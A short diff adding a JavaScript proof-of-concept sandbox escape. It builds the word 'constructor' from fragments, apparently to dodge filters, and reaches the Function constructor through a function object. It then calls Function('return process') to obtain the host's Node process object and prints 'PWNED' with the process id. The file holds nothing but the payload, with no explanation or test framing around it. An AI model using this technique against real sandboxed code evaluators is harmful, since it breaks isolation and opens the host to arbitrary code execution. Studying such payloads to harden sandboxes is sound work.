@@ -1,0 +1,6 @@
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const o = Object.assign.apply(null, [{}, t]);
+console.log('PWNED', o.go(fn)('return process')().pid);
